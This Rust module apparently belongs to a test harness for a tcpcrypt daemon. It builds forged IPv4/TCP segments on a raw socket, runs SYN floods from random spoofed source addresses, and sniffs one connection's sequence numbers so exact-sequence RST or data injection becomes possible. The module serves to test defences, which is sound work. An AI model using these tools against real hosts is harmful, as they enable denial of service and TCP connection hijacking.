//! Attacker tools: forged IPv4 TCP segments sent through a raw socket, SYN
//! floods from spoofed sources, and an on-path sniffer that tracks the
//! sequence numbers of one connection.
//!
//! They are meant to run from a namespace no daemon queues, typically the
//! router of [`crate::Topology::routed`]: a forged segment then reaches the
//! victim exactly as a packet from the network would. Packets are built with
//! the engine's own wire types ([`Packet`], [`TcpRepr`], [`IpLayer`]), so the
//! attacker and the daemon agree on what a valid segment is, and checksums
//! are always right (a wrong checksum would only test the checksum check).
//!
//! Sockets are opened on a thread that entered the namespace (see
//! [`Netns::run`]) and stay in it for their whole life, so the returned
//! objects can be used from any thread.

use std::collections::HashMap;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use tcpcrypt_engine::wire::tcp::kind;
use tcpcrypt_engine::wire::{IpLayer, Packet, TcpFlags, TcpOption, TcpRepr, WireError};

use crate::{Netns, Result, TestnetError};

/// TEP identifiers of RFC 8548 section 7 (ECDHE over P-256 and Curve25519),
/// which every tcpcryptd offers by default: a SYN carrying them looks like
/// a real tcpcrypt host's.
const TEP_P256: u8 = 0x21;
const TEP_X25519: u8 = 0x23;

/// Small, fast, seedable pseudo-random numbers, so a failing attack can be
/// replayed from the seed the test prints. Not for anything secret.
#[derive(Clone, Debug)]
pub struct XorShift(u64);

impl XorShift {
    /// A generator from `seed` (zero is replaced, as xorshift would stay at
    /// zero forever).
    pub fn new(seed: u64) -> XorShift {
        XorShift(if seed == 0 {
            0x9e37_79b9_7f4a_7c15
        } else {
            seed
        })
    }

    /// A seed that differs between runs: the clock mixed with the pid.
    pub fn fresh_seed() -> u64 {
        let nanos = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos() as u64)
            .unwrap_or(1);
        nanos ^ (u64::from(std::process::id()) << 32)
    }

    pub fn next_u64(&mut self) -> u64 {
        // xorshift64* (Vigna): full period over non-zero states.
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    pub fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }

    pub fn fill(&mut self, buf: &mut [u8]) {
        for chunk in buf.chunks_mut(8) {
            let v = self.next_u64().to_le_bytes();
            chunk.copy_from_slice(&v[..chunk.len()]);
        }
    }
}

/// An ENO option (RFC 8547 section 4.1) offering `teps` as suboptions.
pub fn eno_option(teps: &[u8]) -> TcpOption {
    TcpOption::Other {
        kind: kind::ENO,
        data: teps.to_vec(),
    }
}

/// The ENO option a default tcpcryptd puts in its SYN.
pub fn default_eno_option() -> TcpOption {
    eno_option(&[TEP_X25519, TEP_P256])
}

/// A segment `src` → `dst` with the given flags and numbers, window 65535,
/// no options and no payload; callers edit the fields they need.
pub fn segment(
    src: SocketAddrV4,
    dst: SocketAddrV4,
    flags: TcpFlags,
    seq: u32,
    ack: u32,
) -> Packet<'static> {
    Packet {
        ip: IpLayer::new_minimal(IpAddr::V4(*src.ip()), IpAddr::V4(*dst.ip())),
        tcp: TcpRepr {
            src_port: src.port(),
            dst_port: dst.port(),
            seq,
            ack,
            flags,
            window: u16::MAX,
            urgent: 0,
            options: Vec::new(),
            payload: Default::default(),
        },
    }
}

/// A SYN as a Linux client would send it (MSS, SACK permitted, window
/// scale), with the default ENO option when `eno` is set.
pub fn syn(src: SocketAddrV4, dst: SocketAddrV4, seq: u32, eno: bool) -> Packet<'static> {
    let mut p = segment(src, dst, TcpFlags::SYN, seq, 0);
    p.tcp.window = 64240;
    p.tcp.options = vec![
        TcpOption::Mss(1460),
        TcpOption::SackPermitted,
        TcpOption::Nop,
        TcpOption::WindowScale(7),
    ];
    if eno {
        p.tcp.options.push(default_eno_option());
    }
    p
}

/// Sends whole IPv4 packets, headers included, from the namespace it was
/// opened in. The kernel routes each packet by its destination and sends it
/// as it is (source address and all), filling in only the IP ID if zero.
pub struct RawSender {
    fd: OwnedFd,
    buf: Vec<u8>,
}

/// What a burst achieved.
#[derive(Clone, Copy, Debug, Default)]
pub struct BurstReport {
    /// Packets the kernel took.
    pub sent: u64,
    /// Packets refused (ENOBUFS and the like: a full device queue).
    pub refused: u64,
    pub elapsed: Duration,
}

impl BurstReport {
    /// Packets per second actually handed to the kernel.
    pub fn rate(&self) -> f64 {
        self.sent as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// A SYN flood: `count` SYNs to `target` from random addresses inside
/// `sources` (an IPv4 prefix) and random ports, each with a random ISN.
#[derive(Clone, Copy, Debug)]
pub struct SynFlood {
    pub target: SocketAddrV4,
    /// Network address and prefix length of the spoofed sources. The
    /// attacker's namespace should route it to a blackhole, so that the
    /// victim's SYN-ACKs die there.
    pub sources: (Ipv4Addr, u8),
    pub count: u64,
    /// Whether each SYN carries an ENO option (then the victim's daemon
    /// starts a negotiation for each).
    pub eno: bool,
    pub seed: u64,
}

impl RawSender {
    /// Opens an `IPPROTO_RAW` socket (which implies `IP_HDRINCL`) in `ns`.
    pub fn open(ns: &Netns) -> Result<RawSender> {
        let fd = ns.run(|| {
            // SAFETY: plain socket(2) call; the result is checked.
            let raw = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
            if raw < 0 {
                return Err(TestnetError::Io {
                    what: "opening a raw IPv4 socket".into(),
                    source: std::io::Error::last_os_error(),
                });
            }
            // SAFETY: a fresh descriptor nobody else owns.
            Ok(unsafe { OwnedFd::from_raw_fd(raw) })
        })?;
        Ok(RawSender {
            fd,
            buf: Vec::with_capacity(1600),
        })
    }

    /// Sends one packet. Only IPv4 is supported.
    pub fn send(&mut self, p: &Packet) -> Result<()> {
        let IpAddr::V4(dst) = p.ip.dst else {
            return Err(WireError::Unsupported("IPv6 forgery").into());
        };
        p.emit(&mut self.buf)?;
        send_to(&self.fd, &self.buf, dst).map_err(|source| TestnetError::Io {
            what: format!("sending a forged packet to {dst}"),
            source,
        })
    }

    /// Sends an IPv4 packet exactly as given, e.g. a captured one replayed.
    /// It must parse as IPv4 + TCP, which also gives its destination.
    pub fn send_bytes(&mut self, packet: &[u8]) -> Result<()> {
        let p = Packet::parse(packet)?;
        let IpAddr::V4(dst) = p.ip.dst else {
            return Err(WireError::Unsupported("IPv6 forgery").into());
        };
        send_to(&self.fd, packet, dst).map_err(|source| TestnetError::Io {
            what: format!("sending a replayed packet to {dst}"),
            source,
        })
    }

    /// Sends each packet once, as fast as the kernel takes them; a packet
    /// refused for want of buffer space is counted, not retried.
    pub fn burst<'a, 'p: 'a>(
        &mut self,
        packets: impl IntoIterator<Item = &'a Packet<'p>>,
    ) -> BurstReport {
        let start = Instant::now();
        let mut r = BurstReport::default();
        for p in packets {
            match self.send(p) {
                Ok(()) => r.sent += 1,
                Err(_) => r.refused += 1,
            }
        }
        r.elapsed = start.elapsed();
        r
    }

    /// Runs a SYN flood. Packets are built one at a time, so memory does
    /// not grow with `count`.
    pub fn syn_flood(&mut self, f: &SynFlood) -> BurstReport {
        let mut rng = XorShift::new(f.seed);
        let start = Instant::now();
        let mut r = BurstReport::default();
        for _ in 0..f.count {
            let src = spoofed_source(rng.next_u64(), f.sources);
            let p = syn(src, f.target, rng.next_u32(), f.eno);
            match self.send(&p) {
                Ok(()) => r.sent += 1,
                Err(_) => r.refused += 1,
            }
        }
        r.elapsed = start.elapsed();
        r
    }
}

/// A source address inside `prefix` and a port of 1024 or above, both
/// taken from the random `v`. The host part is never all-zeros or all-ones
/// (network and broadcast addresses) when the prefix has room for others.
fn spoofed_source(v: u64, (net, len): (Ipv4Addr, u8)) -> SocketAddrV4 {
    let host_mask = u32::MAX.checked_shr(u32::from(len)).unwrap_or(0);
    let base = u32::from(net) & !host_mask;
    let host = if host_mask >= 3 {
        ((v as u32) & host_mask).clamp(1, host_mask - 1)
    } else {
        (v as u32) & host_mask
    };
    let port = 1024 + ((v >> 32) as u16 % (u16::MAX - 1024));
    SocketAddrV4::new(Ipv4Addr::from(base | host), port)
}

fn send_to(fd: &OwnedFd, bytes: &[u8], dst: Ipv4Addr) -> std::io::Result<()> {
    // SAFETY: sockaddr_in is plain data; all-zero is valid.
    let mut sin: libc::sockaddr_in = unsafe { std::mem::zeroed() };
    sin.sin_family = libc::AF_INET as libc::sa_family_t;
    sin.sin_addr.s_addr = u32::from(dst).to_be();
    // SAFETY: `bytes` and `sin` are valid for the lengths passed.
    let n = unsafe {
        libc::sendto(
            fd.as_raw_fd(),
            bytes.as_ptr().cast(),
            bytes.len(),
            0,
            (&sin as *const libc::sockaddr_in).cast(),
            std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
        )
    };
    if n < 0 {
        return Err(std::io::Error::last_os_error());
    }
    Ok(())
}

/// The last segment one side of a connection was seen sending.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Seen {
    pub seq: u32,
    pub ack: u32,
    /// `seq` plus the sequence space the segment occupies: the sender's
    /// SND.NXT as far as this segment shows.
    pub end: u32,
    /// Raw window field (unscaled).
    pub window: u16,
    pub flags: TcpFlags,
    /// Segments seen from this side so far.
    pub count: u64,
}

/// One side of the connection: what it sent last, and the window scale its
/// SYN announced, if the SYN was seen.
#[derive(Clone, Copy, Debug, Default)]
struct Side {
    last: Option<Seen>,
    window_scale: Option<u8>,
}

type Sides = Arc<Mutex<HashMap<SocketAddr, Side>>>;

/// An on-path observer of one TCP connection: it reads every frame that
/// arrives at the namespace's interfaces (AF_PACKET, not bound to one
/// interface) and keeps, per side, the latest sequence and acknowledgment
/// numbers. Frames the namespace itself sends are ignored, so the forged
/// packets of a [`RawSender`] in the same namespace never count as the
/// connection's own.
pub struct Sniffer {
    sides: Sides,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Sniffer {
    /// Starts watching the connection between `a` and `b` (IPv4) from
    /// inside `ns`; nothing that arrives after this returns is missed. Port
    /// 0 in `a` or `b` matches any port, so a sniffer started before a
    /// client connects sees its SYN (and window scale); sides are then
    /// known by their real addresses.
    pub fn start(ns: &Netns, a: SocketAddr, b: SocketAddr) -> Result<Sniffer> {
        let fd = ns.run(|| crate::capture::open_socket(None))?;
        let sides: Sides = Arc::new(Mutex::new(HashMap::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (s, st) = (sides.clone(), stop.clone());
        let thread = std::thread::spawn(move || sniff_loop(fd, (a, b), &s, &st));
        Ok(Sniffer {
            sides,
            stop,
            thread: Some(thread),
        })
    }

    /// The latest segment `from` was seen sending.
    pub fn latest(&self, from: SocketAddr) -> Option<Seen> {
        self.sides.lock().ok()?.get(&from)?.last
    }

    /// The window scale `from` announced in its SYN, if the SYN was seen.
    pub fn window_scale(&self, from: SocketAddr) -> Option<u8> {
        self.sides.lock().ok()?.get(&from)?.window_scale
    }

    /// Waits up to `timeout` until `from` has sent `min_count` segments,
    /// then returns its latest one.
    pub fn wait_for(&self, from: SocketAddr, min_count: u64, timeout: Duration) -> Option<Seen> {
        let end = Instant::now() + timeout;
        loop {
            if let Some(s) = self.latest(from).filter(|s| s.count >= min_count) {
                return Some(s);
            }
            if Instant::now() > end {
                return None;
            }
            std::thread::sleep(Duration::from_millis(5));
        }
    }

    /// Waits until neither side has sent anything for `quiet`, at most
    /// `timeout`; true if the connection went quiet. An exact-sequence
    /// forgery needs a connection whose numbers are not moving.
    pub fn wait_quiet(&self, quiet: Duration, timeout: Duration) -> bool {
        let end = Instant::now() + timeout;
        let total = |s: &Self| -> u64 {
            s.sides
                .lock()
                .map(|m| m.values().filter_map(|v| v.last).map(|l| l.count).sum())
                .unwrap_or(0)
        };
        let mut last = total(self);
        let mut since = Instant::now();
        while Instant::now() < end {
            std::thread::sleep(Duration::from_millis(10));
            let now = total(self);
            if now != last {
                last = now;
                since = Instant::now();
            } else if since.elapsed() >= quiet {
                return true;
            }
        }
        false
    }
}

impl Drop for Sniffer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// Bytes of the Ethernet header in front of the IP packet on a veth.
const ETH_HEADER_LEN: usize = 14;
const ETHERTYPE_IPV4: [u8; 2] = [0x08, 0x00];

fn sniff_loop(
    fd: OwnedFd,
    conn: (SocketAddr, SocketAddr),
    sides: &Mutex<HashMap<SocketAddr, Side>>,
    stop: &AtomicBool,
) {
    let mut buf = vec![0u8; 70_000];
    while !stop.load(Ordering::Relaxed) {
        // SAFETY: sockaddr_ll is plain data; all-zero is valid.
        let mut sll: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        let mut len = std::mem::size_of::<libc::sockaddr_ll>() as libc::socklen_t;
        // SAFETY: `buf` and `sll` are valid for the lengths passed.
        let n = unsafe {
            libc::recvfrom(
                fd.as_raw_fd(),
                buf.as_mut_ptr().cast(),
                buf.len(),
                0,
                (&mut sll as *mut libc::sockaddr_ll).cast(),
                &mut len,
            )
        };
        if n <= 0 || sll.sll_pkttype == libc::PACKET_OUTGOING {
            continue;
        }
        let frame = buf.get(..n as usize).unwrap_or(&[]);
        if let Some((from, seen, wscale)) = observe(frame, conn)
            && let Ok(mut m) = sides.lock()
        {
            let side = m.entry(from).or_default();
            let count = side.last.map_or(0, |l| l.count) + 1;
            side.last = Some(Seen { count, ..seen });
            if wscale.is_some() {
                side.window_scale = wscale;
            }
        }
    }
}

/// The sender, its segment and (on a SYN) its window scale, if `frame` is
/// an IPv4 TCP segment of `conn`.
fn observe(frame: &[u8], conn: (SocketAddr, SocketAddr)) -> Option<(SocketAddr, Seen, Option<u8>)> {
    if frame.get(12..14)? != ETHERTYPE_IPV4 {
        return None;
    }
    let p = Packet::parse(frame.get(ETH_HEADER_LEN..)?).ok()?;
    let (src, dst) = (p.src(), p.dst());
    let is = |x: SocketAddr, pattern: SocketAddr| {
        x.ip() == pattern.ip() && (pattern.port() == 0 || x.port() == pattern.port())
    };
    let (a, b) = conn;
    if !((is(src, a) && is(dst, b)) || (is(src, b) && is(dst, a))) {
        return None;
    }
    let t = &p.tcp;
    let wscale = if t.flags.contains(TcpFlags::SYN) {
        t.window_scale()
    } else {
        None
    };
    let seen = Seen {
        seq: t.seq,
        ack: t.ack,
        end: t.seq.wrapping_add(t.seq_len()),
        window: t.window,
        flags: t.flags,
        count: 0,
    };
    Some((src, seen, wscale))
}

#[cfg(test)]
mod tests {
    use super::*;
    use tcpcrypt_engine::wire::checksum;

    fn a() -> SocketAddrV4 {
        "10.77.1.1:40000".parse().unwrap()
    }
    fn b() -> SocketAddrV4 {
        "10.77.2.2:7100".parse().unwrap()
    }

    #[test]
    fn a_forged_rst_has_the_chosen_fields_and_valid_checksums() {
        let p = segment(a(), b(), TcpFlags::RST | TcpFlags::ACK, 0x1234_5678, 99);
        let bytes = p.to_bytes().unwrap();
        assert_eq!(bytes.len(), 40);
        assert_eq!(checksum::of(&bytes[..20]), 0, "IPv4 header checksum");
        assert_eq!(checksum::tcp(p.ip.src, p.ip.dst, &bytes[20..]), 0);
        let back = Packet::parse(&bytes).unwrap();
        assert_eq!(back.src(), SocketAddr::V4(a()));
        assert_eq!(back.dst(), SocketAddr::V4(b()));
        assert_eq!(back.tcp.seq, 0x1234_5678);
        assert_eq!(back.tcp.ack, 99);
        assert_eq!(back.tcp.flags, TcpFlags::RST | TcpFlags::ACK);
    }

    #[test]
    fn a_syn_carries_eno_only_when_asked() {
        let with = syn(a(), b(), 7, true);
        let without = syn(a(), b(), 7, false);
        let parse = |p: &Packet| Packet::parse(&p.to_bytes().unwrap()).unwrap().into_owned();
        assert!(parse(&with).tcp.option(kind::ENO).is_some());
        assert!(parse(&without).tcp.option(kind::ENO).is_none());
        assert_eq!(parse(&with).tcp.seq_len(), 1);
        assert_eq!(parse(&with).tcp.window_scale(), Some(7));
    }

    #[test]
    fn a_data_segment_keeps_its_payload() {
        let mut p = segment(a(), b(), TcpFlags::ACK | TcpFlags::PSH, 5, 6);
        p.tcp.payload = b"forged bytes".into();
        let bytes = p.to_bytes().unwrap();
        assert_eq!(checksum::tcp(p.ip.src, p.ip.dst, &bytes[20..]), 0);
        assert_eq!(Packet::parse(&bytes).unwrap().tcp.payload, b"forged bytes");
    }

    #[test]
    fn the_sniffer_reads_a_frame_of_its_connection_and_ignores_others() {
        let conn = (SocketAddr::V4(a()), SocketAddr::V4(b()));
        let mut p = segment(b(), a(), TcpFlags::ACK, 1000, 2000);
        p.tcp.payload = vec![0; 10].into();
        let mut frame = vec![0u8; 12];
        frame.extend_from_slice(&ETHERTYPE_IPV4);
        frame.extend_from_slice(&p.to_bytes().unwrap());
        let (from, seen, wscale) = observe(&frame, conn).unwrap();
        assert_eq!(from, SocketAddr::V4(b()));
        assert_eq!((seen.seq, seen.ack, seen.end), (1000, 2000, 1010));
        assert_eq!(wscale, None);
        let other = (SocketAddr::V4(a()), "10.77.2.2:7101".parse().unwrap());
        assert!(observe(&frame, other).is_none());
        let any_client_port = ("10.77.1.1:0".parse().unwrap(), SocketAddr::V4(b()));
        assert_eq!(
            observe(&frame, any_client_port).unwrap().0,
            SocketAddr::V4(b())
        );
        frame[12] = 0x86; // IPv6 ethertype: not read
        assert!(observe(&frame, conn).is_none());
    }

    #[test]
    fn spoofed_sources_stay_inside_the_prefix_and_vary() {
        let mut rng = XorShift::new(3);
        let prefix = (Ipv4Addr::new(10, 77, 128, 0), 17);
        let mut seen = std::collections::HashSet::new();
        for _ in 0..1000 {
            let s = spoofed_source(rng.next_u64(), prefix);
            let [a, b, c, d] = s.ip().octets();
            assert_eq!((a, b), (10, 77));
            assert!(c >= 128, "{s} outside 10.77.128.0/17");
            let network_or_broadcast = (c, d) == (128, 0) || (c, d) == (255, 255);
            assert!(!network_or_broadcast, "{s}");
            assert!(s.port() >= 1024);
            seen.insert(*s.ip());
        }
        assert!(seen.len() > 900, "only {} distinct sources", seen.len());
        let one = spoofed_source(rng.next_u64(), (Ipv4Addr::new(10, 77, 9, 9), 32));
        assert_eq!(*one.ip(), Ipv4Addr::new(10, 77, 9, 9));
    }
}
